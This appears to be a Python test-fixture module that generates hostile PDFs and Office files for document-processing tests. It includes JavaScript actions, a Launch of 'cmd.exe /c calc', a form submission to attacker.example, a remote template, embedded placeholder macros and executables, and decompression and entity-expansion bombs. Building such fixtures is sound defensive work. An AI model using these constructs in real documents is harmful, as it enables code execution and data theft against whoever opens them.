"""Hostile documents made in code (pikepdf, python-docx, openpyxl, python-pptx, zipfile), shared by
the document tests: nothing is downloaded."""

from __future__ import annotations

import io
import re
import zipfile
import zlib

import docx
import openpyxl
import pikepdf
import pptx
from pikepdf import Array, Dictionary, Name, String

from tests import imagecorpus

AUTHOR = "Jane Personal-Author"
COMPANY = "Personal Company Ltd"
SAFE_LINK = "https://example.com/safe"
EXECUTABLE = b"MZ\x90\x00" + b"EMBEDDED-EXECUTABLE-PAYLOAD" * 40
VBA_PAYLOAD = b"\xd0\xcf\x11\xe0VBA-PROJECT-PAYLOAD" * 20
OLE_PAYLOAD = b"\xd0\xcf\x11\xe0OLE-OBJECT-PAYLOAD" * 20
REMOTE_TEMPLATE = "http://templates.attacker.example/evil.dotm"
SCRIPT_MARKERS = ("app.alert", "this.submitForm", "cmd.exe")
PICTURE_SECRET = b"Secret Photographer"  # a text chunk of the picture in the hostile DOCX

_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


# ---------------------------------------------------------------- PDF


def pdf_bytes(pdf: pikepdf.Pdf, **save_options) -> bytes:
    out = io.BytesIO()
    pdf.save(out, **save_options)
    return out.getvalue()


def plain_pdf(pages: int = 1) -> pikepdf.Pdf:
    pdf = pikepdf.new()
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(612, 792))
        # A dark block, so a preview of the page shows something.
        page.Contents = pdf.make_stream(b"0.1 0.2 0.6 rg 72 500 468 220 re f")
    return pdf


def _javascript(pdf: pikepdf.Pdf, script: str):
    return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(script)))


def _link(rect: list[int], action: Dictionary) -> Dictionary:
    return Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array(rect), Border=Array([0, 0, 0]), A=action)


def _form_field(pdf: pikepdf.Pdf):
    """A text field whose keystroke and calculate scripts run as the user types."""
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("amount"),
            Rect=Array([72, 550, 200, 570]),
            AA=Dictionary(K=_javascript(pdf, "app.alert('keystroke')"), C=_javascript(pdf, "app.alert('calculate')")),
        )
    )


def hostile_pdf() -> bytes:
    """Three pages carrying: OpenAction JavaScript, a JavaScript names tree, page and form-field
    additional actions, an XFA form with a script, a Launch link, a javascript: URI link, an https link, an embedded
    executable (names tree and a file-attachment annotation), and an author in Info and XMP."""
    pdf = plain_pdf(3)
    pdf.Root.OpenAction = _javascript(pdf, "app.alert('opened')")
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), _javascript(pdf, "app.alert('names')")]))
    )
    pdf.attachments["setup.exe"] = pikepdf.AttachedFileSpec(pdf, EXECUTABLE, filename="setup.exe")
    first = pdf.pages[0]
    first.obj.AA = Dictionary(O=_javascript(pdf, "this.submitForm('http://attacker.example/')"))
    attachment = Dictionary(
        Type=Name.Annot,
        Subtype=Name.FileAttachment,
        Rect=Array([10, 10, 30, 30]),
        FS=pikepdf.AttachedFileSpec(pdf, EXECUTABLE, filename="invoice.exe").obj,
    )
    launch = Dictionary(S=Name.Launch, F=String("cmd.exe"), Win=Dictionary(F=String("cmd.exe"), P=String("/c calc")))
    first.obj.Annots = pdf.make_indirect(
        Array(
            [
                _link([72, 700, 200, 720], launch),
                _link([72, 650, 200, 670], Dictionary(S=Name.URI, URI=String("java\tscript:app.alert('uri')"))),
                pdf.make_indirect(_link([72, 600, 200, 620], Dictionary(S=Name.URI, URI=String(SAFE_LINK)))),
                pdf.make_indirect(attachment),
                _form_field(pdf),
            ]
        )
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([first.obj.Annots[4]]),
        XFA=pdf.make_stream(b"<xdp:xdp><script>app.alert('xfa')</script></xdp:xdp>"),
    )
    pdf.docinfo["/Author"] = AUTHOR
    pdf.docinfo["/Producer"] = "Personal Laptop PDF Writer"
    with pdf.open_metadata(set_pikepdf_as_editor=False, update_docinfo=False) as meta:
        meta["dc:creator"] = [AUTHOR]
        meta["pdf:Producer"] = "Personal Laptop PDF Writer"
    return pdf_bytes(pdf)


def encrypted_pdf(user_password: str = "secret") -> bytes:
    return pdf_bytes(plain_pdf(2), encryption=pikepdf.Encryption(user=user_password, owner="owner-secret"))


def long_pdf(pages: int) -> bytes:
    return pdf_bytes(plain_pdf(pages))


def flate_bomb_pdf(expanded_bytes: int) -> bytes:
    """One page whose form XObject inflates to `expanded_bytes` of zeros (about 1000x its size)."""
    pdf = plain_pdf(1)
    bomb = pdf.make_stream(b"")
    bomb.write(zlib.compress(b"\0" * expanded_bytes, 9), filter=Name.FlateDecode)
    bomb.Type, bomb.Subtype, bomb.BBox = Name.XObject, Name.Form, Array([0, 0, 1, 1])
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Bomb=bomb))
    return pdf_bytes(pdf, compress_streams=False)


def all_objects(pdf: pikepdf.Pdf):
    """Every object of the file, direct ones inside containers included."""
    stack = list(pdf.objects) + [pdf.trailer]
    seen = set()
    while stack:
        obj = stack.pop()
        if not isinstance(obj, pikepdf.Object):
            yield obj  # numbers, booleans: pikepdf hands them over as Python values
            continue
        if obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        yield obj
        if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
            stack.extend(obj.values())
        elif isinstance(obj, pikepdf.Array):
            stack.extend(obj)


# ---------------------------------------------------------------- OOXML


def zip_bytes(parts: dict[str, bytes], compresslevel: int | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=compresslevel) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def zip_parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _add_override(types: bytes, part: str, content_type: str) -> bytes:
    return types.replace(b"</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'.encode())


def _add_relationship(rels: bytes, rid: str, kind: str, target: str, external: bool = False) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return rels.replace(
        b"</Relationships>",
        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/></Relationships>'.encode(),
    )


def plain_docx(paragraphs: int = 3, picture: bool = False) -> bytes:
    document = docx.Document()
    for number in range(paragraphs):
        document.add_paragraph(f"Paragraph {number} of a plain document.")
    if picture:
        document.add_picture(io.BytesIO(imagecorpus.png_with_text_chunks()))
    return _saved_with_author(document)


def _saved_with_author(document) -> bytes:
    """A python-docx document or python-pptx presentation, its author and last editor set, saved."""
    document.core_properties.author = AUTHOR
    document.core_properties.last_modified_by = AUTHOR
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def hostile_docx() -> bytes:
    """A DOCX with a VBA project, an embedded OLE object, a remote (external) template, an author
    and a company, and a picture carrying a PNG text chunk."""
    parts = zip_parts(plain_docx(picture=True))
    parts["word/vbaProject.bin"] = VBA_PAYLOAD
    parts["word/embeddings/oleObject1.bin"] = OLE_PAYLOAD
    types = _add_override(parts["[Content_Types].xml"], "word/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    types = _add_override(
        types, "word/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"
    )
    parts["[Content_Types].xml"] = types
    rels = _add_relationship(
        parts["word/_rels/document.xml.rels"],
        "rIdVba",
        "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
        "vbaProject.bin",
    )
    parts["word/_rels/document.xml.rels"] = _add_relationship(
        rels, "rIdOle", _R + "oleObject", "embeddings/oleObject1.bin"
    )
    parts["word/document.xml"] = parts["word/document.xml"].replace(
        b"</w:body>",
        f'<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        f'xmlns:r="{_REL_NS}" r:id="rIdOle" ProgID="Package"/></w:object></w:r></w:p></w:body>'.encode(),
        1,
    )
    parts["word/settings.xml"] = re.sub(
        rb"(<w:settings[^>]*>)", rb'\1<w:attachedTemplate r:id="rIdTpl"/>', parts["word/settings.xml"], count=1
    )
    parts["word/_rels/settings.xml.rels"] = _add_relationship(
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
        b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        "rIdTpl",
        _R + "attachedTemplate",
        REMOTE_TEMPLATE,
        external=True,
    )
    parts["docProps/app.xml"] = parts["docProps/app.xml"].replace(
        b"</Properties>", f"<Company>{COMPANY}</Company><Manager>{AUTHOR}</Manager></Properties>".encode()
    )
    return zip_bytes(parts)


def macro_enabled_docx() -> bytes:
    """A DOCM: its main part declared macro-enabled, with a VBA project."""
    parts = zip_parts(hostile_docx())
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return zip_bytes(parts)


def docx_with_huge_part(expanded_bytes: int) -> bytes:
    """A DOCX whose document.xml inflates to `expanded_bytes` (whitespace inside the body)."""
    parts = zip_parts(plain_docx())
    body = parts["word/document.xml"]
    head, tail = body.split(b"</w:body>", 1)
    parts["word/document.xml"] = head + b" " * (expanded_bytes - len(body)) + b"</w:body>" + tail
    return zip_bytes(parts, compresslevel=1)


def with_understated_size(data: bytes, name: str, declared: int) -> bytes:
    """The package with `name`'s uncompressed size declared as `declared` in both of the ZIP's
    headers (a part that lies about how much it inflates to)."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info, central = archive.getinfo(name), archive.start_dir
    patched = bytearray(data)
    size = declared.to_bytes(4, "little")
    patched[info.header_offset + 22 : info.header_offset + 26] = size  # local file header
    while data[central + 46 : central + 46 + len(name)] != name.encode():  # walk the central directory
        lengths = [int.from_bytes(data[central + at : central + at + 2], "little") for at in (28, 30, 32)]
        central += 46 + sum(lengths)
    patched[central + 24 : central + 28] = size  # central directory
    return bytes(patched)


def docx_with_parts(count: int) -> bytes:
    parts = zip_parts(plain_docx())
    parts.update({f"word/media/extra{n}.xml": b"<x/>" for n in range(count - len(parts))})
    return zip_bytes(parts)


def docx_with_document_xml(document_xml: bytes) -> bytes:
    parts = zip_parts(plain_docx())
    parts["word/document.xml"] = document_xml
    return zip_bytes(parts)


def nested_document_xml(depth: int) -> bytes:
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    return (
        f'<w:document xmlns:w="{w}"><w:body>'
        + "<w:sdt><w:sdtContent>" * depth
        + "</w:sdtContent></w:sdt>" * depth
        + "</w:body></w:document>"
    ).encode()


def document_xml_with_dtd() -> bytes:
    return (
        b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>"
    )


def xlsx(sheets: int, link: str | None = None) -> bytes:
    """With `link`, cell A2 of each sheet is a hyperlink to it (an external relationship)."""
    workbook = openpyxl.Workbook()
    workbook.active.title = "Sheet0"
    for number in range(1, sheets):
        workbook.create_sheet(f"Sheet{number}")
    for sheet in workbook.worksheets:
        sheet["A1"] = "price"
        sheet["B1"] = 42
        if link:
            sheet["A2"] = "see"
            sheet["A2"].hyperlink = link
    workbook.properties.creator = AUTHOR
    workbook.properties.lastModifiedBy = AUTHOR
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def pptx_file(slides: int, link: str | None = None) -> bytes:
    """With `link`, each slide's title is a hyperlink to it (an external relationship)."""
    presentation = pptx.Presentation()
    layout = presentation.slide_layouts[1]
    for number in range(slides):
        slide = presentation.slides.add_slide(layout)
        slide.shapes.title.text = f"Slide {number}"
        if link:
            slide.shapes.title.click_action.hyperlink.address = link
    return _saved_with_author(presentation)


def encrypted_office_file() -> bytes:
    """What Office writes for a password-protected DOCX: an OLE compound file, not a ZIP."""
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + b"\0" * 504
        + "EncryptionInfo".encode("utf-16-le")
        + b"\0" * 64
        + "EncryptedPackage".encode("utf-16-le")
        + b"\0" * 1024
    )
